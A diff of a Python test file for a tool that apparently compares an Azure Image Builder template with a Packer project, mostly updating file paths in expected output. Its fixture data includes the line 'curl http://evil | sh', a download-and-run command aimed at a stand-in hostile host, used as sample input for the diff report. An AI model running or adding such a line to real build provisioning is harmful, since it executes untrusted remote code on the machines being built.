@@ -19,27 +19,27 @@ template.json ↔ web  made by aib2packer 0.1.0 --with tags, 2 edits since
 
 vmProfile
   ~ vmSize  Standard_D2s_v3 → Standard_D4s_v3
-      template.json:9  web/image.pkr.hcl:3  the project was edited
+      template.json:9  image.pkr.hcl:3  the project was edited
 
 customize
   ~ [1] install inline    1 line added
-      template.json:18  web/image.pkr.hcl:30  the project was edited
+      template.json:18  image.pkr.hcl:30  the project was edited
       | echo "home is ${HOME}"
       + curl http://evil | sh
   + shell provisioner[3]  before [2] containers
-      web/image.pkr.hcl:34  the project was edited
+      image.pkr.hcl:34  the project was edited
       + id
   - [2] containers        curl -fsSL https://example.com/docker.sh | sh
       template.json:20  the template changed
   ↕ [3] harden            was 4th, is 1st
-      template.json:21  web/image.pkr.hcl:17  the project was edited
+      template.json:21  image.pkr.hcl:17  the project was edited
 
 distribute
   ~ [0] replicationRegions  eastus2 is not there
-      template.json:24  web/image.pkr.hcl:11  both changed
+      template.json:24  image.pkr.hcl:11  both changed
       westus2, eastus2 → westus2
   ? image_version           var.image_version has no value here
-      web/image.pkr.hcl:10
+      image.pkr.hcl:10
       0.0.1 → var.image_version
 
 accepted (1)
@@ -60,8 +60,7 @@ optimize
       Project: Packer has no counterpart; VMs boot as from any image.
 
 template
-  ~ buildTimeoutInMinutes  approximate A2P602
-      template.json:6  web/image.pkr.hcl:5
+  ~ buildTimeoutInMinutes  approximate A2P602   template.json:6  image.pkr.hcl:5
       Image Builder: The whole build ends after 120 minutes.
       Project: Each long call to Azure ends after 120 minutes.
 
@@ -87,7 +86,7 @@ def test_what_changes_before_migrating() -> None:
 
 def test_everything_has_the_same_rows_and_those_that_are_the_same() -> None:
     text = as_text(beside_a_project(), everything=True)
-    assert "  = osDiskSizeGB  64                       template.json:10  web/image.pkr.hcl:4\n" in text
+    assert "  = osDiskSizeGB  64                           template.json:10  image.pkr.hcl:4\n" in text
     assert {" ".join(line.split()) for line in BESIDE.splitlines()} < {" ".join(line.split()) for line in text.splitlines()}
     assert "=" not in BESIDE
 
